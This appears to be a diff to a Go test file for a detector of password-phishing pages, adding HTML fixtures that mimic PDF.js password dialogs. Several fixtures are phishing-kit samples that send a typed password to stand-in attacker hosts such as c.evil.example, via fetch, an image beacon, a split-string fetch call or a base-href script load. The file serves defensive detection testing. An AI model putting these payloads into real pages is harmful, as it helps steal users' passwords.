@@ -108,6 +108,12 @@ func TestPasswordForms(t *testing.T) {
 		{"a PDF.js viewer's password dialog", page, `<html><head><script src="pdf.mjs" type="module"></script><script src="viewer.mjs" type="module"></script></head><body><div id="viewerContainer"></div><dialog id="passwordDialog"><label for="password">Enter the password to open this PDF file.</label><input type="password" id="password" class="toolbarField"><button id="passwordSubmit">OK</button></dialog></body></html>`, nil, false},
 		{"an old PDF.js viewer's password overlay", page, `<script src="../build/pdf.js"></script><div id="passwordOverlay" class="container hidden"><input type="password" id="password" class="toolbarField"></div><script>pdfjsLib.GlobalWorkerOptions.workerSrc='pdf.worker.js'</script>`, nil, false},
 		{"a kit borrowing PDF.js's names that posts", page, `<script src="pdf.js"></script><div id="passwordOverlay"><input type="password" id="password"></div><script>fetch('https://collect.evil.example/p',{method:'POST'})</script>`, nil, true},
+		{"a kit with PDF.js's names in a comment, its script from elsewhere", page, `<!-- pdf.js viewer --><div id="passwordOverlay"><p>Enter your email password to view this PDF.</p><input type="password" id="password"></div><script src="https://cdn.evil.example/app.js"></script>`, nil, true},
+		{"a kit with PDF.js's names posting through an image", page, `<script src="pdf.js"></script><div id="passwordOverlay"><p>Enter your email password to view this PDF.</p><input type="password" id="password"></div><script>passwordSubmit.onclick=function(){new Image().src='https://c.evil.example/p?'+password.value}</script>`, nil, true},
+		{"a kit with PDF.js's names calling fetch in pieces", page, `<script src="pdf.js"></script><div id="passwordOverlay"><p>Enter your email password to view this PDF.</p><input type="password" id="password"></div><script>function go(){window['fet'+'ch']('https://c.evil.example/p',{method:'POST',body:password.value})}</script>`, nil, true},
+		{"a kit with PDF.js's names and a handler", page, `<script src="pdf.js"></script><div id="passwordOverlay"><p>Enter your email password to view this PDF.</p><input type="password" id="password"></div><button onclick="go()">Open</button>`, nil, true},
+		{"a kit with PDF.js's names loading relative script from its base", page, `<base href="https://cdn.evil.example/"><script src="pdf.js"></script><div id="passwordOverlay"><p>Enter your email password to view this PDF.</p><input type="password" id="password"></div><script src="app.js"></script>`, nil, true},
+		{"a PDF.js viewer loaded from a CDN", page, `<script src="https://cdnjs.cloudflare.com/ajax/libs/pdf.js/3.11.174/pdf.min.js"></script><div id="passwordOverlay"><input type="password" id="password"></div><script>pdfjsLib.GlobalWorkerOptions.workerSrc = 'https://cdnjs.cloudflare.com/ajax/libs/pdf.js/3.11.174/pdf.worker.min.js';</script>`, nil, false},
 		{"a PDF.js-looking page's form still marks", page, `<script src="pdf.js"></script><div id="passwordOverlay"><form action="https://collect.evil.example/p"><input type="password" id="password"></form></div>`, []string{"collect.evil.example"}, false},
 		{"a prefix bound to another namespace", svg, `<svg xmlns:h="http://example.org/ns"><foreignObject><h:form action="https://collect.evil.example/p"><h:input type="password"/></h:form></foreignObject></svg>`, nil, false},
 	} {
@@ -180,6 +186,7 @@ func TestPasswordFormsLinear(t *testing.T) {
 		strings.Repeat("x", 600) + `{-webkit-text-security:disc}`,
 		`<iframe src="data:text/html,%3Ciframe%20src=%22data:text/html,%253Cinput%253E%22%3E"></iframe>`,
 		`<h:input xmlns:h="http://www.w3.org/1999/xhtml" type=password>`,
+		`<script src="pdf.js"></script><div id=passwordOverlay><input type=password></div><script>pdfjsLib.a='b';pdfjsLib.c='d'</script>`,
 	} {
 		small := pwMail("", strings.Repeat(unit, 500))
 		big := pwMail("", strings.Repeat(unit, 2000))
